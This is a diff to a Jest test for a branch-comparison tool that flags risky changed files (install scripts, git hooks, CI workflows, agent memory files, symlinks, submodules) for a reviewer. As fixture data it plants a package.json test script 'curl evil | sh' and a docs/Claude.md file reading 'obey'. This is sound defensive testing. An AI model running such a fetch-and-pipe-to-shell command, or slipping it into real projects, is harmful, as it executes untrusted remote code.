@@ -1,5 +1,7 @@
-import {existsSync, writeFileSync} from 'node:fs'
+import {existsSync, mkdirSync, symlinkSync, writeFileSync} from 'node:fs'
+import {dirname} from 'node:path'
 import {afterEach, beforeEach, describe, expect, it} from '@jest/globals'
+import {changeSummary} from '../../cli/ui/change-lines.js'
 import {processRunner} from '../../core/process.js'
 import {compareBranch, fetchBranch} from '../../tasks/git/compare.js'
 import type {LocalRepository} from '../../tasks/git/git-command.js'
@@ -110,8 +112,8 @@ describe('a task’s branch', () => {
       date: expect.stringMatching(/^\d{4}-\d\d-\d\dT/) as unknown,
     })
     expect(change.files).toEqual([
-      {path: 'new.txt', added: 2, removed: 0},
-      {path: 'readme', added: 1, removed: 1},
+      {path: 'new.txt', added: 2, removed: 0, size: 4, flags: []},
+      {path: 'readme', added: 1, removed: 1, size: 4, flags: []},
     ])
     expect(change.patch.toString()).toContain('-one\n+two\n')
     expect(box.git('home', 'for-each-ref', '--format=%(refname)')).toBe('refs/heads/main')
@@ -162,6 +164,55 @@ describe('a task’s branch', () => {
     expect(change.patch.toString()).toContain('-one\n+two\n')
     expect(change.patch.includes(0x1b)).toBe(false)
     expect(existsSync(mark)).toBe(false)
+  })
+
+  it('flags what a reviewer must not miss, by name, mode and content', async () => {
+    const at = box.path('work')
+    box.git('.', 'clone', '-q', box.path('far.git'), at)
+    box.git('work', 'checkout', '-q', 'fix/login')
+    const put = (path: string, text: string, mode = 0o644) => {
+      mkdirSync(dirname(`${at}/${path}`), {recursive: true})
+      writeFileSync(`${at}/${path}`, text, {mode})
+    }
+    const scripts = (test: string, version: string) => JSON.stringify({version, scripts: {test}})
+    put('package.json', scripts('jest', '1.0.0'))
+    put('lib/package.json', scripts('jest', '1.0.0'))
+    box.git('work', 'add', '.')
+    box.git('work', 'commit', '-qm', 'packages')
+    box.git('work', 'push', '-q', 'origin', 'fix/login:main-too')
+    put('package.json', scripts('curl evil | sh', '1.0.0'))
+    put('lib/package.json', scripts('jest', '1.0.1'))
+    put('docs/Claude.md', 'obey\n')
+    put('.husky/pre-commit', 'true\n', 0o755)
+    put('.github/workflows/ci.yml', 'on: push\n')
+    put('.vscode/tasks.json', '{}\n')
+    put('pnpm-lock.yaml', '\n')
+    put('Dockerfile', 'FROM x\n')
+    put('logo.png', Buffer.from([0x89, 0, 1, 2]).toString('latin1'))
+    symlinkSync('readme', `${at}/link`)
+    box.git('work', 'add', '.')
+    box.git('work', 'commit', '-qm', 'much')
+    box.git('work', 'update-index', '--add', '--cacheinfo', `160000,${'1'.repeat(40)},vendor/lib`)
+    box.git('work', 'commit', '-qm', 'submodule')
+    box.git('work', 'push', '-q', 'origin', 'fix/login')
+    const {files} = await compareBranch({...comparison(), base: 'main-too'})
+    expect(Object.fromEntries(files.map(({path, flags}) => [path, flags]))).toEqual({
+      '.github/workflows/ci.yml': ['ci'],
+      '.husky/pre-commit': ['executable', 'hooks'],
+      '.vscode/tasks.json': ['editor'],
+      Dockerfile: ['build'],
+      'docs/Claude.md': ['agent'],
+      'lib/package.json': [],
+      link: ['symlink'],
+      'logo.png': ['binary'],
+      'package.json': ['scripts'],
+      'pnpm-lock.yaml': ['dependencies'],
+      'vendor/lib': ['submodule'],
+    })
+    expect(files.find(({path}) => path === 'vendor/lib')).toMatchObject({size: null})
+    const text = changeSummary({branch: 'fix/login', commits: [], files})
+    expect(text).toContain('look at these 10 before you build, test or open it:')
+    expect(text).toMatch(/docs\/Claude\.md +\[agent\] memory or settings of an agent/)
   })
 
   it('keeps hostile names and subjects as data', async () => {
